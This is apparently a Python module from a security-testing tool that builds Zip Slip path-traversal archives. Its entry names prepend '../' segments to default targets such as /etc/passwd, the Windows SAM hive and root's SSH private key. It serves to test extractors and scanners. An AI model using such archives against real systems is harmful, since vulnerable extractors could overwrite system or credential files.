"""Proof-of-concept Zip Slip archive generator.

Creates a zip archive whose entry names are:
- `depth` repetitions of `../`
- followed by each payload path, verbatim

Each entry holds a short placeholder body. Names are never sanitised; the
whole point of the archive is to exercise extractors and scanners.
"""

from __future__ import annotations

import zipfile
from collections.abc import Iterable
from pathlib import Path

from zippys.logging import get_logger
from zippys.types import GenerateResult

log = get_logger(__name__)

TRAVERSAL_SEGMENT = "../"
DEFAULT_DEPTH = 5

# Used when an empty payload list is passed in
DEFAULT_PAYLOADS: tuple[str, ...] = (
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "../../../../root/.ssh/id_rsa",
)

# Default for the `generate` command's --payloads option
CLI_DEFAULT_PAYLOADS: tuple[str, ...] = DEFAULT_PAYLOADS[:2]


def traversal_entry_name(payload: str, depth: int) -> str:
    """Prefix *payload* with *depth* `../` segments; NUL is rejected."""
    if depth < 0:
        raise ValueError(f"depth must be >= 0, got {depth}")
    if "\x00" in payload:
        # zipfile truncates stored names at NUL, so the entry would not be verbatim
        raise ValueError(f"payload contains a NUL character: {payload!r}")
    return TRAVERSAL_SEGMENT * depth + payload


def placeholder_content(payload: str) -> str:
    return f"Malicious content for {payload}"


def make_traversal_zip(
    output: Path,
    payloads: Iterable[str] | None = None,
    depth: int = DEFAULT_DEPTH,
) -> GenerateResult:
    """Write a traversal archive to *output*.

    Parameters
    ----------
    output: Path
        Archive to create; parent directories are created if missing.
    payloads: Iterable[str] | None
        Raw payload paths. Empty or None falls back to `DEFAULT_PAYLOADS`.
    depth: int
        Number of `../` segments prepended to every payload.

    Returns
    -------
    GenerateResult
        The archive path and the entry names in write order.
    """
    items = list(payloads or ()) or list(DEFAULT_PAYLOADS)
    names = [traversal_entry_name(p, depth) for p in items]

    output.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for payload, name in zip(items, names):
            z.writestr(name, placeholder_content(payload))
            log.debug(f"wrote entry {name!r}")

    log.info(f"generated {output} with {len(names)} entries at depth {depth}")
    return GenerateResult(path=str(output), depth=depth, entries=names)
